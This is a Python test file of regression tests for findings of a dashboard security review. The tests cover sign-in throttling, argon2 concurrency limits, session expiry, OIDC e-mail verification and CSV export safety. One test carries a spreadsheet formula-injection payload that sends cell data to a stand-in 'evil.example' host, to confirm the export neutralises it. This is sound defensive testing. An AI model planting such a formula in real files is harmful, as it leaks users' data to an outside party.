"""Regression tests of the dashboards' security and reliability review, one finding each.

Sign-in under concurrency and attack (reservations before argon2, a bound on argon2 checks,
rate-limited refusals kept in memory, pruning, a name alone cannot lock its owner out, the
reverse-proxy header), CSV cells a spreadsheet would run, bundle downloads re-checked when
clicked, sessions that end when idle or on a password change, and OIDC identities whose
e-mail is not verified.
"""

from __future__ import annotations

import csv
import io
import logging
import threading
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from argon2 import PasswordHasher
from streamlit.runtime.media_file_storage import MediaFileStorageError
from streamlit.testing.v1 import AppTest

from dashboards.auth import SignIn, add_user, sign_in
from dashboards.ratelimit import Backoff, Throttle
from dashboards.roles import Page
from gpumeter import store
from gpumeter.config import load_config
from tests.dashboards.conftest import Downloads, OpenApp, assert_clean
from tests.dashboards.fixtures import (
    MONTH,
    OIDC_USER,
    PASSWORD,
    SCOPED_TENANT,
    access,
    build_empty,
    build_oidc,
    rows,
    run_gpumeter,
)

T0 = datetime(2026, 11, 30, 9, tzinfo=UTC)
SESSION_KEY = "gpumeter.session"


def execute(config: Path, sql: str, params: dict[str, Any] | None = None) -> None:
    con = store.connect(load_config(config).store.database)
    try:
        con.execute(sql, params or {})
    finally:
        con.close()


def at_once(n: int, attempt: Callable[[int], SignIn]) -> list[SignIn]:
    """``n`` sign-in attempts released together from ``n`` threads."""
    barrier = threading.Barrier(n)

    def run(i: int) -> SignIn:
        barrier.wait()
        return attempt(i)

    with ThreadPoolExecutor(n) as pool:
        return list(pool.map(run, range(n)))


# --------------------------------------------------------------------------- sign-in (findings 2 and 6)


def test_concurrent_attempts_get_the_answers_of_sequential_ones(empty_site: Path) -> None:
    """Finding 2: 8 concurrent attempts were all checked (8 × 64 MiB argon2) where 8
    sequential ones gave 1 check + 7 refusals: the attempt is now counted before argon2."""
    db = access(empty_site)
    throttle = Throttle(user=Backoff(1, 60.0, 900.0), client=Backoff(1, 60.0, 900.0))
    sequential = [
        sign_in(db, "comp", f"wrong password {i:04d}", client=f"198.51.100.{i}", now=T0, throttle=throttle).reason
        for i in range(8)
    ]
    assert sequential == ["bad_password"] + ["rate_limited"] * 7
    one_name = at_once(
        8, lambda i: sign_in(db, "fin", f"wrong password {i:04d}", client=f"203.0.113.{i}", now=T0, throttle=throttle)
    )
    assert sorted(str(r.reason) for r in one_name) == ["bad_password"] + ["rate_limited"] * 7
    one_client = at_once(  # the per-client bucket is reserved the same way
        8, lambda i: sign_in(db, f"user-{i}", f"wrong password {i:04d}", client="192.0.2.7", now=T0, throttle=throttle)
    )
    assert sorted(str(r.reason) for r in one_client) == ["rate_limited"] * 7 + ["unknown_user"]
    counted = rows(empty_site, "SELECT reason, count(*) FROM dashboard_login_failures GROUP BY ALL ORDER BY ALL")
    assert counted == [("bad_password", 2), ("unknown_user", 1)]


def test_argon2_checks_are_bounded(empty_site: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Finding 2: argon2id takes 64 MiB per check; at most gate.MAX_CHECKS run at once."""
    from dashboards.gate import MAX_CHECKS

    real_verify = PasswordHasher.verify
    lock = threading.Lock()
    running, peak = [0], [0]

    def verify(self: PasswordHasher, hash: str | bytes, password: str | bytes) -> bool:  # a spy: the real check runs
        with lock:
            running[0] += 1
            peak[0] = max(peak[0], running[0])
        try:
            return real_verify(self, hash, password)
        finally:
            with lock:
                running[0] -= 1

    monkeypatch.setattr(PasswordHasher, "verify", verify)
    db = access(empty_site)
    names = ["ada", "fin", "comp", "aud", "nobody-1", "nobody-2", "nobody-3", "nobody-4"]
    results = at_once(8, lambda i: sign_in(db, names[i], PASSWORD, client=f"198.51.100.{i}", now=T0))
    assert [r.passed for r in results] == [True] * 4 + [False] * 4
    assert MAX_CHECKS == 2 and peak[0] == MAX_CHECKS


def test_rate_limited_refusals_are_not_written_and_logged_sparingly(
    empty_site: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Finding 6: every rate-limited refusal opened the store read-write and inserted a row."""
    from dashboards.gate import gate_for

    caplog.set_level(logging.INFO, logger="gpumeter.dashboards")
    db = access(empty_site)
    throttle = Throttle(user=Backoff(1, 600.0, 900.0))
    assert sign_in(db, "fin", "wrong password 0000", client="198.51.100.1", now=T0, throttle=throttle).reason == (
        "bad_password"
    )
    for i in range(1, 51):
        later = T0 + timedelta(seconds=i)
        limited = sign_in(db, "fin", PASSWORD, client="198.51.100.1", now=later, throttle=throttle)
        assert limited.reason == "rate_limited" and limited.retry_at == T0 + timedelta(seconds=600)
    assert rows(empty_site, "SELECT name, reason FROM dashboard_login_failures") == [("fin", "bad_password")]
    lines = [r.getMessage() for r in caplog.records if "reason=rate_limited" in r.getMessage()]
    assert len(lines) == 6 and lines[-1].endswith("refused=32")  # the 1st, 2nd, 4th, … 32nd
    remembered = gate_for(db.path).refusals()
    assert len(remembered) == 50 and remembered[0].name == "fin" and remembered[0].reason == "rate_limited"


def test_knowing_a_name_does_not_lock_its_owner_out(empty_site: Path) -> None:
    """Finding 6: anyone knowing a name kept its user locked out. A client that signed in as
    the user is exempt from the per-name backoff (not from its own per-client ones)."""
    db = access(empty_site)
    assert sign_in(db, "fin", PASSWORD, client="192.0.2.10", now=T0).passed  # the owner's usual address
    t = T0 + timedelta(minutes=1)
    for i in range(30):  # guesses from 30 addresses, one each
        guess = sign_in(db, "fin", f"guess number {i:04d}", client=f"198.51.100.{i}", now=t)
        assert guess.reason == ("bad_password" if i < 5 else "rate_limited")
    assert sign_in(db, "fin", PASSWORD, client="203.0.113.5", now=t).reason == "rate_limited"  # a new address waits
    assert sign_in(db, "fin", PASSWORD, client="192.0.2.10", now=t).passed  # the owner does not
    # From the owner's address, guesses at the owner's name meet their own backoff.
    t += timedelta(seconds=1)
    for i in range(5):
        assert sign_in(db, "fin", f"local guess {i:04d}", client="192.0.2.10", now=t).reason == "bad_password"
    assert sign_in(db, "fin", PASSWORD, client="192.0.2.10", now=t).reason == "rate_limited"


def test_a_password_change_forgets_the_known_clients(empty_site: Path) -> None:
    db = access(empty_site)
    assert sign_in(db, "fin", PASSWORD, client="192.0.2.10", now=T0).passed
    changed = {"t": T0 + timedelta(seconds=1)}
    execute(empty_site, "UPDATE dashboard_users SET password_changed_at = $t WHERE name = 'fin'", changed)
    t = T0 + timedelta(minutes=1)
    for i in range(5):
        sign_in(db, "fin", f"guess number {i:04d}", client=f"198.51.100.{i}", now=t)
    assert sign_in(db, "fin", PASSWORD, client="192.0.2.10", now=t).reason == "rate_limited"


def test_old_refusals_are_pruned(empty_site: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Finding 6: the failures table grew without bound."""
    from dashboards import auth

    for days in (45, 31, 29, 1):
        execute(
            empty_site,
            "INSERT INTO dashboard_login_failures (failed_at, name, client, reason) "
            "VALUES ($t, 'old', '198.51.100.1', 'bad_password')",
            {"t": T0 - timedelta(days=days)},
        )
    sign_in(access(empty_site), "nobody", "wrong password 0000", client="198.51.100.2", now=T0)
    kept = rows(empty_site, "SELECT failed_at FROM dashboard_login_failures ORDER BY id")
    assert kept == [(T0 - timedelta(days=29),), (T0 - timedelta(days=1),), (T0,)]
    other = build_empty(empty_site.parent.parent / "capped")  # a fresh store: its first failure prunes
    for i in range(4):
        execute(
            other,
            "INSERT INTO dashboard_login_failures (failed_at, name, client, reason) "
            "VALUES ($t, $n, '198.51.100.1', 'bad_password')",
            {"t": T0 - timedelta(hours=i), "n": f"old-{i}"},
        )
    monkeypatch.setattr(auth, "FAILURE_ROWS_KEPT", 2)
    sign_in(access(other), "nobody", "wrong password 0000", client="192.0.2.1", now=T0)
    assert rows(other, "SELECT name FROM dashboard_login_failures ORDER BY id") == [("old-3",), ("nobody",)]


def test_the_client_address_comes_from_the_socket_unless_a_proxy_header_is_trusted() -> None:
    """Finding 6: all clients behind a proxy shared one bucket; the proxy's header is now
    read when, and only when, ``[dashboard] trusted_proxy_header`` names it."""
    from dashboards.ratelimit import client_address, client_key

    headers = {"X-Forwarded-For": "6.6.6.6, 198.51.100.7", "X-Real-IP": "198.51.100.8"}
    assert client_address("203.0.113.9", headers, "") == "203.0.113.9"  # the header is not trusted by default
    assert client_address(None, headers, "") == "local"
    assert client_address("10.0.0.2", headers, "X-Forwarded-For") == "198.51.100.7"  # what the proxy appended
    assert client_address("10.0.0.2", {"x-forwarded-for": "198.51.100.7"}, "X-Forwarded-For") == "198.51.100.7"
    assert client_address("10.0.0.2", headers, "X-Real-IP") == "198.51.100.8"
    assert client_address("10.0.0.2", {"X-Forwarded-For": "not an address"}, "X-Forwarded-For") == "10.0.0.2"
    assert client_address("10.0.0.2", {}, "X-Forwarded-For") == "10.0.0.2"
    assert client_key("198.51.100.7") == "198.51.100.7"
    assert client_key("2001:db8:1:2:aaaa::1") == client_key("2001:db8:1:2:bbbb::9") == "2001:db8:1:2::/64"
    assert client_key("local") == "local"


# --------------------------------------------------------------------------- CSV (finding 4)


def test_the_refused_sign_ins_csv_neutralises_a_formula_name(
    demo_site: Path, open_app: OpenApp, downloads: Downloads
) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    open_app(demo_site, formula, password="not the password at all")
    at = open_app(demo_site, "ada")
    at.switch_page(f"screens/{Page.ACCESS.value}.py").run()
    assert_clean(at)
    refused = list(csv.DictReader(io.StringIO(downloads.files["refused-sign-ins.csv"].decode())))
    assert [(r["name"], r["reason"]) for r in refused] == [("'" + formula, "unknown_user")]


# --------------------------------------------------------------------------- bundle downloads (finding 5)


def exports_made(config: Path) -> int:
    return int(rows(config, "SELECT count(*) FROM audit_exports")[0][0])


def _change(change: str, config: Path, at: AppTest) -> None:
    if change == "removed":
        execute(config, "DELETE FROM dashboard_users WHERE name = 'aud'")
    elif change == "demoted":
        execute(config, "UPDATE dashboard_users SET role = 'finance' WHERE name = 'aud'")
    elif change == "rescoped":
        execute(config, "UPDATE dashboard_users SET tenant = $t WHERE name = 'aud'", {"t": SCOPED_TENANT})
    elif change == "password":
        con = store.connect(load_config(config).store.database)
        try:
            add_user(con, "aud", "auditor", None, PASSWORD + "!", at=datetime.now(UTC), replace=True)
        finally:
            con.close()
    elif change == "signed_out":
        next(b for b in at.button if b.label == "Sign out").click().run()
    elif change == "idle":
        at.session_state[SESSION_KEY].last_active_at -= timedelta(minutes=31)


@pytest.mark.parametrize("change", ["removed", "demoted", "rescoped", "password", "signed_out", "idle"])
def test_a_bundle_download_rechecks_the_viewer_when_clicked(
    change: str, demo_site: Path, open_app: OpenApp, downloads: Downloads
) -> None:
    """Finding 5: the download function was bound to the viewer as drawn; a user removed or
    demoted kept building bundles from an open tab."""
    at = open_app(demo_site, "aud")
    assert [t.value for t in at.title] == ["Auditor bundles"]
    before = exports_made(demo_site)
    _change(change, demo_site, at)
    with pytest.raises(MediaFileStorageError, match="Callable execution failed"):
        downloads.click(f"gpumeter-audit-{MONTH}-log.zip")
    assert exports_made(demo_site) == before


def test_a_bundle_download_of_an_unchanged_viewer_is_built(
    demo_site: Path, open_app: OpenApp, downloads: Downloads
) -> None:
    at = open_app(demo_site, "aud")
    before = exports_made(demo_site)
    at.session_state[SESSION_KEY].last_active_at -= timedelta(minutes=29)
    downloads.click(f"gpumeter-audit-{MONTH}-log.zip")
    assert exports_made(demo_site) == before + 1


# --------------------------------------------------------------------------- sessions and OIDC (finding 10)


def titles(at: AppTest) -> list[str]:
    return [t.value for t in at.title]


def test_an_idle_session_ends(demo_site: Path, open_app: OpenApp) -> None:
    at = open_app(demo_site, "fin")
    at.session_state[SESSION_KEY].last_active_at -= timedelta(minutes=29)
    at.run()
    assert titles(at) == ["Finance"]  # activity keeps it open …
    at.session_state[SESSION_KEY].last_active_at -= timedelta(minutes=31)
    at.run()
    assert titles(at) == ["gpumeter"]  # … and 30 idle minutes end it
    assert [i.value for i in at.info] == ["Your session ended after 30 minutes without activity; sign in again."]


def test_the_idle_time_is_configurable(tmp_path: Path, open_app: OpenApp) -> None:
    config = build_empty(tmp_path / "site", extra='\n[dashboard]\nsession_idle = "5m"\n')
    at = open_app(config, "fin")
    at.session_state[SESSION_KEY].last_active_at -= timedelta(minutes=6)
    at.run()
    assert titles(at) == ["gpumeter"]


def test_a_password_change_ends_open_sessions(demo_site: Path, open_app: OpenApp) -> None:
    """Finding 10: ``users add --replace`` (a password reset) left existing sessions open."""
    fin = open_app(demo_site, "fin")
    comp = open_app(demo_site, "comp")
    run_gpumeter("users", "add", "fin", "--role", "finance", "--replace", "--config", str(demo_site),
                 GPUMETER_PASSWORD="a brand new password")  # fmt: skip
    fin.run()
    comp.run()
    assert titles(fin) == ["gpumeter"] and titles(comp) == ["Compliance"]
    assert [i.value for i in fin.info] == ["Your password was changed; sign in again."]


@pytest.mark.parametrize(
    "claims",
    [{"email_verified": False}, {}, {"email_verified": "true"}],
    ids=["false", "absent", "a-string"],
)
def test_oidc_refuses_an_unverified_email(claims: dict[str, Any], tmp_path: Path, open_app: OpenApp) -> None:
    """Finding 10: OIDC mapped the e-mail claim without ``email_verified``."""
    config = build_oidc(tmp_path / "oidc")
    at = open_app(config, identity={"is_logged_in": True, "email": OIDC_USER, **claims})
    assert not at.exception
    assert titles(at) == ["gpumeter"]
    assert [e.value for e in at.error] == [
        f"{OIDC_USER} is not a verified e-mail address at the identity provider; it cannot sign in."
    ]
    assert rows(config, "SELECT name, reason FROM dashboard_login_failures") == [(OIDC_USER, "oidc_unverified")]


def test_an_idle_oidc_session_also_signs_out_of_the_provider_cookie(tmp_path: Path, open_app: OpenApp) -> None:
    """Without ``st.logout`` the identity cookie would sign the idle tab straight back in."""
    verified = {"is_logged_in": True, "email": OIDC_USER, "email_verified": True}
    at = open_app(build_oidc(tmp_path / "oidc"), identity=verified)
    assert titles(at) == ["Compliance"]
    at.session_state[SESSION_KEY].last_active_at -= timedelta(minutes=31)
    at.run()
    assert titles(at) == ["gpumeter"] and "email" not in at.user
    assert [i.value for i in at.info] == ["Your session ended after 30 minutes without activity; sign in again."]
